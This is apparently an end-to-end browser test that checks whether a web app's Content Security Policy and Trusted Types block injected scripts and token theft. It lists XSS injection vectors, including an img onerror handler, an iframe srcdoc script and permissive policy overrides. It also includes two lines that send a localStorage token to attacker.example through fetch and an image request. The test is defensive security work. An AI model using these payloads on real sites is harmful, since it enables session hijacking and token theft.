import { expect, expectLoaded, test } from './support';

/** Ways in which an injected text may be executed. */
const scriptInjections: Record<string, string | (() => unknown)> = {
  'markup with a handler': () => (document.body.innerHTML = '<img src="/" onerror="window.isTaken = true">'),
  'markup next to the panel': () => document.body.insertAdjacentHTML('beforeend', '<b>Your session has ended</b>'),
  'a page in a frame': () => {
    document.createElement('iframe').srcdoc = '<script>parent.isTaken = true</script>';
  },
  'a handler': () => document.body.setAttribute('onclick', 'window.isTaken = true'),
  'an inline script': () => {
    document.createElement('script').textContent = 'window.isTaken = true';
  },
  'a script from elsewhere': () => {
    document.createElement('script').src = 'https://attacker.example/script.js';
  },
  'a worker': () => new Worker('/assets/worker.js'),
  'a policy that lets all through': "trustedTypes.createPolicy('attacker', { createHTML: (text) => text })",
  'another policy in the place of ours': "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
};

/** Ways in which an injected script may send the token to another origin. */
const exfiltrations: Record<string, () => Promise<unknown>> = {
  'a call': () => fetch(`https://attacker.example/?${localStorage.getItem('token')}`),
  'an image': () => {
    const image = new Image();
    image.src = `https://attacker.example/?${localStorage.getItem('token')}`;
    return image.decode();
  },
};

test.describe('an attacker who injects content', () => {
  test.use({ allowsCspViolations: true });

  test('cannot run a script, and cannot send the token to another origin', async ({ page, cspViolations }) => {
    await page.goto('/admin/plans');
    await expectLoaded(page);
    for (const [name, run] of Object.entries(scriptInjections))
      await expect(page.evaluate(run), name).rejects.toThrow();

    // The browser blocks an inline script that is built from nodes without throwing.
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.append('window.isTaken = true');
      document.body.append(script);
    });
    expect(await page.evaluate(() => 'isTaken' in window)).toBe(false);
    await expect.poll(() => cspViolations).not.toEqual([]);

    const sent: string[] = [];
    await page.route('https://attacker.example/**', (route) => {
      sent.push(route.request().url());
      return route.fulfill({ headers: { 'access-control-allow-origin': '*' } });
    });
    for (const [name, send] of Object.entries(exfiltrations)) await expect(page.evaluate(send), name).rejects.toThrow();
    expect(sent).toEqual([]);
    await expect.poll(() => cspViolations).not.toEqual([]);
  });
});
